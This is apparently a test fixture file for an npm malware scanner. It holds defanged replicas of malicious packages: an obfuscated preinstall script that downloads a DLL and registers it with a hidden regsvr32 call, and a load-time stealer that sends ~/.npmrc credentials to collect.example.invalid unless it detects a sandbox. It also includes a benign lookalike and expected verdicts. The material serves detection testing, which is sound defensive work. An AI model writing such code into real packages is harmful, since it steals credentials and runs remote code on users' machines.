"""Evidence that adds up (`combined-behaviours`): findings of review severity from different behaviour
classes meeting in install-time code, or in one load-time file; and the bundles whose unrelated findings
sit in different files and must not add up. Payloads are defanged: hosts under `.invalid`, inert DLL
names, nothing that would run."""

from __future__ import annotations

from tests.incidents.replica import Replica

# javascript-obfuscator's string-array prelude (rotator + accessor), enough `_0x` names to be recognised.
_OBFUSCATOR_PRELUDE = (
    "var _0x1a2b=['cmVnc3ZyMzI=','c2RkLmRsbA==','aHR0cHM6'];"
    "(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d){while(--_0x9c0d){"
    "_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1f4));"
    "var _0x2b3c=function(_0x3c4d,_0x5e6f){_0x3c4d=_0x3c4d-0x0;var _0x7a8b=_0x1a2b[_0x3c4d];"
    "if(_0x2b3c['init']===undefined){_0x2b3c['init']=!![];}return _0x7a8b;};"
    "var _0x4d5e=_0x2b3c('0x0'),_0x6f7a=_0x2b3c('0x1'),_0x8b9c=_0x2b3c('0x2');\n"
)

INCIDENTS: list[Replica] = [
    # coa 2.0.3 / rc 1.2.9 (November 2021, CISA alert; GHSA advisories for both): a preinstall started an
    # obfuscated compile.js that downloaded a DLL and registered it with regsvr32 from a hidden `start /B`
    # shell. Here no single step is critical (no pipe-to-shell, no exfiltration host): obfuscation
    # (concealment), a hidden detached LOLBin (process) and a download at install add up to a block.
    Replica(
        "obfuscated-installer-lolbin-download",
        {
            "compile.js": (
                _OBFUSCATOR_PRELUDE + "const { spawn } = require('child_process');\n"
                "const https = require('https'); const fs = require('fs');\n"
                "https.get('https://cdn.example.invalid/sdd.dll', function (r) {\n"
                "  r.pipe(fs.createWriteStream('sdd.dll'));\n"
                "  r.on('end', function () {\n"
                "    spawn('regsvr32.exe', ['-s', 'sdd.dll'], { detached: true, stdio: 'ignore' }).unref();\n"
                "  });\n"
                "});\n"
            ),
            "index.js": "module.exports = {};\n",
        },
        "block",
        frozenset({"combined-behaviours", "install-obfuscated", "shell-lolbin", "detached-process"}),
        manifest={"scripts": {"preinstall": "node compile.js"}},
        name="coa-like",
    ),
    # Targeted stealers that check who is running them before reading credentials (sandbox evasion; the
    # 2024-2025 shape of stealers that skip analysis hosts by user or host name), obfuscated, on require.
    # One file: concealment (obfuscated-code, medium) and a gated credential send (high).
    Replica(
        "load-time-obfuscated-gated-stealer",
        {
            "index.js": (
                _OBFUSCATOR_PRELUDE + "const fs = require('fs'); const os = require('os');\n"
                "const https = require('https'); const path = require('path');\n"
                "function send() {\n"
                "  const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
                "  const req = https.request({ hostname: 'collect.example.invalid', method: 'POST' });\n"
                "  req.end(rc);\n"
                "}\n"
                "if (os.userInfo().username !== 'sandbox' && !os.hostname().includes('analysis')) send();\n"
                "module.exports = function format(s) { return String(s); };\n"
            )
        },
        "block",
        frozenset({"combined-behaviours", "conditioned-exfiltration", "obfuscated-code"}),
        name="string-format-utils",
    ),
]

BENIGN: list[Replica] = [
    # vite / playwright-core / next: one module graph at load time, unrelated findings in different files
    # (a config loader that reads ~/.npmrc and fetches; a vendored minified chunk with code past a long
    # whitespace run). Each is worth a look; together they are not one payload.
    Replica(
        "bundle-unrelated-findings-in-separate-files",
        {
            "dist/index.js": (
                "const config = require('./config.js');\nconst vendor = require('./vendor.js');\n"
                "module.exports = { config, vendor };\n"
            ),
            "dist/config.js": (
                "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
                "exports.load = async function load(registry) {\n"
                "  const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
                "  return fetch(registry, { headers: { 'x-config': String(rc.length) } });\n"
                "};\n"
            ),
            "dist/vendor.js": (
                "exports.pad = function pad(s) { return s; };"
                + " " * 200
                + "exports.trim = (s) => s.trim();\n"
            ),
        },
        "review",
        frozenset({"hidden-code"}),
        manifest={"main": "dist/index.js"},
        note="two classes at load time, a high one among them, but in different files: review, not block",
    ),
]

LOOKALIKES: dict[str, tuple[str, ...]] = {
    "combined-behaviours": ("bundle-unrelated-findings-in-separate-files", "token-expiry-check"),
}
